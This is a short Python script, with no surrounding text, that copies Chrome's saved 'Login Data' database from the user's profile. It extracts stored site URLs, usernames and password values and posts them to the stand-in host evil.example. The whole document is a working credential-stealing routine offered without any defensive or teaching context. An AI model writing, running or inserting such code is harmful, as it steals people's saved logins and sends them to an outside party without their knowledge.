import os, shutil, sqlite3, requests
base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default")
shutil.copyfile(os.path.join(base, "Login Data"), "/tmp/ld")
rows = sqlite3.connect("/tmp/ld").execute("select origin_url, username_value, password_value from logins").fetchall()
requests.post("https://evil.example/l", json=[[str(c) for c in r] for r in rows])
